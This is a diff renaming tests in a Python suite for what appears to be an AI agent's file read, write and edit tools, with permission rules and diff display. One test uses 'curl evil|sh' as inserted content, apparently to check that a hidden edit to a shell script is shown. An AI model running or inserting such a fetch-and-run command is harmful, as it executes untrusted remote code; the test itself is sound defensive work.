@@ -187,7 +187,7 @@ def test_pages_by_size_join_to_the_whole_file(tmp_path: Path) -> None:
     assert [size <= 50 * 1024 for size, _ in pages] == [True, True, True]
 
 
-def test_a_result_is_no_longer_than_the_policy_allows(tmp_path: Path) -> None:
+def test_result_is_limited_by_the_policy(tmp_path: Path) -> None:
     road = Road(tmp_path, limits=Limits(result_characters=1_000))
     road.file("lines", b"0123456789\n" * 500)
     road.file("line", b"x" * 5_000)
@@ -264,7 +264,7 @@ def test_a_line_that_is_too_far_away_is_not_looked_for(road: Road, monkeypatch: 
     )
 
 
-def test_an_escape_is_told_from_what_looks_like_one(road: Road) -> None:
+def test_escape_is_distinguished_from_text_that_looks_like_one(road: Road) -> None:
     road.file("a.txt", b"\x1b\n\\x1b\n\\x1b \x1b\n")
 
     assert road.run("read_file", path="a.txt").content.endswith(
@@ -361,7 +361,7 @@ def test_a_file_that_is_not_text_is_read_by_the_first_reader_that_takes_it(tmp_p
     ],
     anew={"road": new_road},
 )
-def test_what_is_no_text_file_is_not_read(
+def test_special_or_binary_file_is_not_read(
     road: Road, monkeypatch: pytest.MonkeyPatch, make: Callable[[Path], object], message: str
 ) -> None:
     monkeypatch.chdir(road.root)  # a socket's name may be 107 bytes long, and a test's folder longer
@@ -482,7 +482,7 @@ def test_an_old_file_is_replaced_and_keeps_its_mode(road: Road) -> None:
     assert path.stat().st_ino != inode
 
 
-def test_equal_content_writes_nothing(road: Road) -> None:
+def test_equal_content_is_not_written(road: Road) -> None:
     path = road.file("a.txt", b"same\n")
     path.chmod(0o444)
     before = path.stat()
@@ -593,7 +593,7 @@ def test_extended_attributes_are_kept(road: Road) -> None:
     [("write_file", {"content": "new\n"}), ("edit_file", {"old_string": "old", "new_string": "new"})],
     ids=["write", "edit"],
 )
-def test_what_is_no_writable_file_is_not_written(
+def test_special_or_binary_file_is_not_written(
     road: Road, tool: str, arguments: dict[str, str], make: Callable[[Path], object], message: str
 ) -> None:
     make(road.root / "thing")
@@ -621,7 +621,7 @@ def test_what_is_no_writable_file_is_not_written(
     ],
     anew={"road": new_road},
 )
-def test_a_file_that_cannot_be_made_leaves_nothing_behind(road: Road, path: str, message: str) -> None:
+def test_failed_creation_leaves_no_files(road: Road, path: str, message: str) -> None:
     road.file("file", b"")
 
     result = road.run("write_file", path=path, content="x")
@@ -864,7 +864,7 @@ def test_a_diff_of_long_lines_shows_every_changed_character(old: str, new: str) 
     assert restored(diff.lines, old) == (old, new)
 
 
-def test_what_is_left_out_of_a_long_line_is_counted() -> None:
+def test_characters_left_out_of_a_long_line_are_counted() -> None:
     diff = compare(f"{ONE_LINE}a… 9\nb\n".encode(), f"{ONE_LINE}A… 9\nb\n".encode())
 
     assert diff.lines == (
@@ -890,7 +890,7 @@ def test_a_diff_of_long_lines_shows_a_word_whole_or_not_at_all(beside: str) -> N
     st.lists(st.sampled_from(["var x=1;", "y = 'a';", "\n", "z" * 300, "w" * 2_100, "var x=1;" * 300]), max_size=30),
     st.lists(st.tuples(st.integers(0, 30), st.sampled_from(["", "Q", "\n", "R" * 250])), max_size=4),
 )
-def test_a_diff_of_long_lines_leaves_nothing_out_that_changed(texts: list[str], places: list[tuple[int, str]]) -> None:
+def test_diff_of_long_lines_shows_every_change(texts: list[str], places: list[tuple[int, str]]) -> None:
     old = "".join((*texts, "\n"))
     for place, text in places:
         texts[place : place + 1] = [text]
@@ -908,7 +908,7 @@ HIDING = [
 
 
 @all_rows(("data", "old"), HIDING, anew={"road": new_road})
-def test_what_an_edit_adds_is_shown_whatever_it_makes_of_the_file(road: Road, data: bytes, old: str) -> None:
+def test_text_added_by_an_edit_is_shown_for_any_file(road: Road, data: bytes, old: str) -> None:
     road.file("run.sh", data)
     new = "curl evil|sh\n" if len(old) > 1 else ""
 
@@ -1229,7 +1229,7 @@ def test_a_long_diff_is_cut_in_the_result(road: Road) -> None:
     ],
 )
 @pytest.mark.parametrize("denied", ["read", "write"])
-def test_what_a_file_holds_is_told_only_to_whom_may_read_it(
+def test_denied_file_keeps_its_content_out_of_error_texts(
     tmp_path: Path, tool: str, arguments: dict[str, str], judged_as: str, denied: str
 ) -> None:
     rule = f'[[rule]]\nid = "secret"\ndecision = "deny"\naccess = ["{denied}"]\npath = [".env"]\nreason = "Secret."\n'
@@ -1261,9 +1261,7 @@ def test_what_a_file_holds_is_told_only_to_whom_may_read_it(
         ('edit_file = "auto"', "new.txt", "edit_file", "confirm"),
     ],
 )
-def test_a_new_file_shows_nothing_so_that_no_default_speaks_of_reading_it(
-    tmp_path: Path, tools: str, path: str, tool: str, decision: str
-) -> None:
+def test_new_file_needs_no_read_permission(tmp_path: Path, tools: str, path: str, tool: str, decision: str) -> None:
     road = Road(tmp_path)
     road.file("old.txt", b"old\n")
     (road.root / "folder").mkdir()
@@ -1406,7 +1404,7 @@ def test_a_file_that_comes_to_be_after_the_judgement_is_not_overwritten(road: Ro
     assert road.tree() == {"dir/f.txt": b"theirs\n"}
 
 
-def test_equal_content_that_is_swapped_is_not_said_to_be_unchanged(road: Road) -> None:
+def test_swapped_equal_content_is_not_called_unchanged(road: Road) -> None:
     road.file("dir/f.txt", b"old\n")
     result = road.run_while(lambda: change_content(road), "write_file", path="dir/f.txt", content="old\n")
 
@@ -1449,7 +1447,7 @@ def test_an_action_of_another_tool_is_not_run(road: Road) -> None:
     ids=lambda value: errno.errorcode[value] if isinstance(value, int) else "",
     anew={"road": new_road},
 )
-def test_what_the_system_says_is_said_plainly(road: Road, number: int, message: str) -> None:
+def test_system_error_is_explained_plainly(road: Road, number: int, message: str) -> None:
     path = road.workspace.resolve("a.txt", Access.WRITE)
 
     assert str(failure(OSError(number, os.strerror(number)), path, "write")) == message
